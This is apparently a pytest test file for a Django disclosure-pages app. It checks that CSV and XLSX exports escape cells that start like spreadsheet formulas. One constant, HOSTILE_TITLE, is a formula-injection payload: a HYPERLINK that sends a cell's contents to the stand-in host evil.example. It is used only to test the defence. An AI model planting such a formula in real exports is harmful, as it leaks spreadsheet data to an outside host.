"""Exports open in spreadsheet programs: a cell an editor typed that starts like a formula
(= + - @, tab, carriage return) is written as text, in every CSV and XLSX export."""
import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from gongkai.disclosure_pages.spreadsheet_export import spreadsheet_safe

HOSTILE_TITLE = '=HYPERLINK("https://evil.example/?d="&A1,"点击查看")'


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_cell_that_starts_like_a_formula_is_written_as_text(value):
    assert spreadsheet_safe(value) == "'" + value


@pytest.mark.parametrize("value", ["关于做好防汛工作的通知", "方政办〔2025〕12号", "", 42, None])
def test_other_cells_are_untouched(value):
    assert spreadsheet_safe(value) == value


@given(st.text())
def test_no_escaped_cell_starts_like_a_formula_and_nothing_else_changes(value):
    escaped = spreadsheet_safe(value)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert escaped in (value, "'" + value)


def exported_cells(client, url, export_format, query=None):
    response = client.get(url, {**(query or {}), "export": export_format})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    if export_format == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))) for cell in row]
    return [cell for row in load_workbook(io.BytesIO(content)).active.values for cell in row]


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
def test_the_ledger_export_writes_a_formula_title_as_text(make_item, reviewed, reviewer, client, export_format):
    reviewed(make_item(title=HOSTILE_TITLE))
    client.force_login(reviewer)
    cells = exported_cells(client, reverse("review_workflow:ledger"), export_format)
    assert "'" + HOSTILE_TITLE in cells and HOSTILE_TITLE not in cells


@pytest.mark.parametrize("export_format", ["csv", "xlsx"])
@pytest.mark.parametrize("report", ["disclosure_pages:catalogue", "disclosure_pages:deadlines"])
def test_the_catalogue_and_deadline_exports_write_a_formula_title_as_text(
    make_item, admin_client, export_format, report
):
    import datetime

    make_item(title=HOSTILE_TITLE, written_date=datetime.date(2024, 1, 2), doc_number="-1")
    cells = exported_cells(admin_client, reverse(report), export_format)
    assert "'" + HOSTILE_TITLE in cells and HOSTILE_TITLE not in cells
